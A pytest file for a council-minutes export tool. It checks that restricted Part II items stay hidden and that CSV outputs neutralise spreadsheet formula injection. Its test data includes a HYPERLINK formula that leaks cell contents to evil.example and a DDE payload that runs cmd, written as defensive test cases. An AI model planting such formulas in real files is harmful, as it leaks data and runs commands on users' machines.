"""`scrutiny export`: each format read back by its own parser, and a planted Part II action
left out unless --include-restricted. Every CSV writer (export, `scrutiny actions --format csv`,
the dashboard's /actions.csv) neutralises spreadsheet formulas planted in the papers' words."""

from __future__ import annotations

import csv
import io
import json
import warnings
from pathlib import Path

import icalendar
import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from scrutiny.cli import app
from scrutiny.outputs.export import csv_text, spreadsheet_safe
from scrutiny.store import models as m
from scrutiny.store.batch import write
from scrutiny.store.db import connect, session_scope
from scrutiny.store.ingest import Outcome
from scrutiny.store.prepare import prepare

PANEL = """\
STOURLAND POLICE AND CRIME PANEL

Minutes of the meeting held on 12 March 2024 at 10:00, Council Chamber, Stourland

Present: Cllr Jane Brown (Chair) (JB), Margaret Coyle, Police and Crime Commissioner (MC)

1. Knife crime report

The Panel noted the report on knife crime in the night-time economy.

ACTION: JB to circulate the knife crime report to all members by 31 March 2024

ACTION: MC to publish the victims' code compliance figures by 30 June 2024

RESOLVED: That the knife crime report be noted.

2. PART II – EXEMPT ITEM

The Panel discussed the Millbrook property sale in private session.

ACTION: JB to brief members on the Millbrook property sale by 15 April 2024

RESOLVED: That the Quarrington settlement be approved.
"""

SECRETS = ("Millbrook", "Quarrington")


def _panel_store(folder: Path) -> str:
    url = f"sqlite:///{folder / 'export.db'}"
    engine = connect(url)
    path = folder / "panel-2024-03-12.txt"
    path.write_text(PANEL, encoding="utf-8")
    outcome = write(engine, prepare(path), source=str(path))
    assert isinstance(outcome, Outcome), outcome
    engine.dispose()
    return url


@pytest.fixture(scope="module")
def store(tmp_path_factory) -> str:
    return _panel_store(tmp_path_factory.mktemp("export"))


def run(url: str, *args: str) -> str:
    result = CliRunner().invoke(app, ["export", *args, "--database", url, "--as-of", "2024-05-01"])
    assert result.exit_code == 0, result.output
    return result.stdout


def test_actions_csv_leaves_restricted_out_by_default(store):
    rows = list(csv.DictReader(io.StringIO(run(store, "actions", "--format", "csv"))))
    texts = [r["text"] for r in rows]
    assert len(rows) == 2 and any("knife crime report" in t for t in texts)
    assert not any(s in t for s in SECRETS for t in texts)
    assert {r["restricted"] for r in rows} == {"false"}
    assert rows[0]["owners"] == "JB" and rows[0]["due"] == "2024-03-31" and rows[0]["overdue"] == "true"

    rows = list(csv.DictReader(io.StringIO(run(store, "actions", "--format", "csv", "--include-restricted"))))
    assert len(rows) == 3
    secret = [r for r in rows if "Millbrook" in r["text"]]
    assert len(secret) == 1 and secret[0]["restricted"] == "true"


def test_actions_json(store):
    data = json.loads(run(store, "actions", "--format", "json"))
    assert [a["due"] for a in data] == ["2024-03-31", "2024-06-30"]
    assert "Millbrook" not in json.dumps(data)
    data = json.loads(run(store, "actions", "-f", "json", "--include-restricted"))
    assert any("Millbrook" in a["text"] and a["restricted"] for a in data)


def test_actions_ics_one_all_day_event_per_due_date(store, tmp_path):
    out = tmp_path / "actions.ics"
    run(store, "actions", "--format", "ics", "--output", str(out), "--base-url", "https://scrutiny.example/")
    cal = icalendar.Calendar.from_ical(out.read_bytes())
    events = list(cal.walk("VEVENT"))
    assert len(events) == 2
    knife = next(e for e in events if "knife crime report" in str(e["SUMMARY"]))
    start = knife.decoded("DTSTART")
    assert start.isoformat() == "2024-03-31" and not hasattr(start, "hour")  # all day
    description = str(knife["DESCRIPTION"])
    assert "JB" in description and "Status: open" in description
    assert "STOURLAND POLICE AND CRIME PANEL".lower() in description.lower() and "2024-03-12" in description
    assert "https://scrutiny.example/actions/" in description
    assert str(knife["URL"]).startswith("https://scrutiny.example/actions/")
    assert not any(s in out.read_text(encoding="utf-8") for s in SECRETS)

    run(store, "actions", "--format", "ics", "--output", str(out), "--include-restricted")
    events = list(icalendar.Calendar.from_ical(out.read_bytes()).walk("VEVENT"))
    assert len(events) == 3
    secret = next(e for e in events if "Millbrook" in str(e["SUMMARY"]))
    assert secret.decoded("DTSTART").isoformat() == "2024-04-15"
    assert "http://127.0.0.1:8000/actions/" in str(secret["DESCRIPTION"])


def test_meetings_json_follows_the_contract(store):
    jsonschema = pytest.importorskip("jsonschema")
    schema_file = Path(__file__).resolve().parents[3] / "shared" / "schema" / "extraction.schema.json"
    data = json.loads(run(store, "meetings", "--format", "json"))
    assert len(data) == 1
    meeting = data[0]
    assert meeting["date"] == "2024-03-12" and meeting["start_time"] == "10:00"
    assert [a["owners"] for a in meeting["actions"]] == [["JB"], ["MC"]]
    assert len(meeting["decisions"]) == 1 and meeting["attendees"]
    assert not any(s in json.dumps(data) for s in SECRETS)
    if schema_file.exists():
        record = {
            "schema": "scrutiny.extraction/1",
            "source": {"name": "x", "sha256": "0" * 64, "format": "txt"},
        }
        jsonschema.validate(
            {**record, "meetings": data, "forward_plan": []}, json.loads(schema_file.read_text())
        )
    data = json.loads(run(store, "meetings", "--format", "json", "--include-restricted"))
    assert len(data[0]["actions"]) == 3 and "Quarrington" in json.dumps(data)


def test_meetings_and_decisions_csv(store):
    rows = list(csv.DictReader(io.StringIO(run(store, "meetings"))))
    assert len(rows) == 1 and rows[0]["actions"] == "2" and rows[0]["decisions"] == "1"
    rows = list(csv.DictReader(io.StringIO(run(store, "meetings", "--include-restricted"))))
    assert rows[0]["actions"] == "3" and rows[0]["decisions"] == "2"

    rows = list(csv.DictReader(io.StringIO(run(store, "decisions", "--format", "csv"))))
    assert (
        len(rows) == 1 and "knife crime report" in rows[0]["text"] and rows[0]["meeting_date"] == "2024-03-12"
    )
    rows = list(csv.DictReader(io.StringIO(run(store, "decisions", "--include-restricted"))))
    assert any("Quarrington" in r["text"] for r in rows)
    data = json.loads(run(store, "decisions", "--format", "json"))
    assert len(data) == 1 and "Quarrington" not in json.dumps(data)


def test_ics_is_for_actions_only(store):
    result = CliRunner().invoke(app, ["export", "meetings", "--format", "ics", "--database", store])
    assert result.exit_code == 2
    assert "ics is for actions only" in result.output


def test_no_database(tmp_path):
    result = CliRunner().invoke(app, ["export", "actions", "--database", f"sqlite:///{tmp_path / 'none.db'}"])
    assert result.exit_code == 2 and "no database here yet" in result.output


# --- formulas (CSV injection): every CSV writer neutralises them ------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A2,"See the minutes")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
# What the papers' words were made to say in the store, and the cell a CSV must hold for each.
PLANTED = {
    "knife text": (HYPERLINK, "'" + HYPERLINK),
    "knife owner": (SUM, "'" + SUM),
    "knife ref": ("  -1", "'  -1"),  # after leading spaces too
    "victims text": ("-2+3", "'-2+3"),
    "victims owner": ("+1", "'+1"),
    "decision": ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    "venue": ("\t=1+1", "'\t=1+1"),
}


@pytest.fixture(scope="module")
def formulas(tmp_path_factory) -> str:
    """The panel minutes with formulas written into the two public actions (text, owner, ref),
    the public decision and the meeting's venue, as a hostile paper could have them read."""
    url = _panel_store(tmp_path_factory.mktemp("formulas"))
    engine = connect(url)
    with session_scope(engine, write=True) as session:
        public = session.scalars(select(m.Action).where(m.Action.restricted.is_(False))).all()
        knife = next(a for a in public if "knife crime" in a.text)
        victims = next(a for a in public if "victims" in a.text)
        knife.text, knife.ref = PLANTED["knife text"][0], PLANTED["knife ref"][0]
        knife.owners[0].owner = PLANTED["knife owner"][0]
        victims.text, victims.owners[0].owner = PLANTED["victims text"][0], PLANTED["victims owner"][0]
        decision = session.scalars(select(m.Decision).where(m.Decision.restricted.is_(False))).one()
        decision.text = PLANTED["decision"][0]
        session.scalars(select(m.Meeting)).one().venue = PLANTED["venue"][0]
    engine.dispose()
    return url


def _assert_actions_neutralised(text: str) -> None:
    """The action rows of a CSV: every planted cell quoted, every other cell as it was."""
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(text))}
    knife, victims = sorted(rows.values(), key=lambda r: r["due"])
    assert (knife["text"], knife["owners"], knife["ref"]) == (
        PLANTED["knife text"][1],
        PLANTED["knife owner"][1],
        PLANTED["knife ref"][1],
    )
    assert (victims["text"], victims["owners"]) == (PLANTED["victims text"][1], PLANTED["victims owner"][1])
    # legitimate values stay as they were: dates, numbers, names, true/false
    assert (knife["due"], knife["days_overdue"], knife["overdue"]) == ("2024-03-31", "31", "true")
    assert knife["document"] == "panel-2024-03-12.txt" and knife["meeting_date"] == "2024-03-12"
    assert knife["body"] == "Stourland Police and Crime Panel"
    assert not any(
        cell.lstrip().startswith(("=", "+", "-", "@", "\t", "\r"))
        for r in rows.values()
        for cell in r.values()
    )


def test_export_actions_csv_neutralises_formulas(formulas):
    _assert_actions_neutralised(run(formulas, "actions", "--format", "csv"))


def test_export_meetings_and_decisions_csv_neutralise_formulas(formulas):
    [meeting] = csv.DictReader(io.StringIO(run(formulas, "meetings", "--format", "csv")))
    assert meeting["venue"] == PLANTED["venue"][1] and meeting["date"] == "2024-03-12"
    [decision] = csv.DictReader(io.StringIO(run(formulas, "decisions", "--format", "csv")))
    assert decision["text"] == PLANTED["decision"][1] and decision["restricted"] == "false"


def test_actions_command_csv_neutralises_formulas(formulas):
    args = ["actions", "--database", formulas, "--format", "csv", "--as-of", "2024-05-01"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    _assert_actions_neutralised(result.stdout)


def test_dashboard_csv_neutralises_formulas(formulas):
    from scrutiny.web.app import create_app

    with warnings.catch_warnings():  # Starlette's notice about httpx; the client works the same
        warnings.simplefilter("ignore")
        from fastapi.testclient import TestClient

    with TestClient(create_app(formulas, secret="test"), base_url="https://testserver") as c:
        r = c.get("/actions.csv", params={"as_of": "2024-05-01"})
    assert r.status_code == 200 and r.headers["content-type"].startswith("text/csv")
    _assert_actions_neutralised(r.text)


@pytest.mark.parametrize(
    "text,cell",
    [
        ("=1+1", "'=1+1"),
        ("+44 1234 567890", "'+44 1234 567890"),  # OWASP: every one, even what a person meant as text
        ("-2", "'-2"),  # a negative number in the papers' words too: shown as text, never computed
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tanything", "'\tanything"),
        ("\r=1", "'\r=1"),
        (" \u00a0=1", "' \u00a0=1"),
        ("JB", "JB"),
        ("a=b+c-d@e", "a=b+c-d@e"),  # only the first character counts
        ("'=quoted", "'=quoted"),  # already safe: the quote leads
        ("2024-03-31", "2024-03-31"),
        ("", ""),
    ],
)
def test_spreadsheet_safe(text, cell):
    assert spreadsheet_safe(text) == cell


def test_csv_text_writes_its_own_numbers_as_numbers():
    """Ids, counts and days overdue are scrutiny's, not the papers': a number stays a number."""
    rows = [{"n": -5, "t": "-5", "b": True, "none": None}]
    assert csv_text(("n", "t", "b", "none"), rows) == "n,t,b,none\n-5,'-5,true,\n"
    assert csv_text(("n",), [{"n": 1}], header=False) == "1\n"
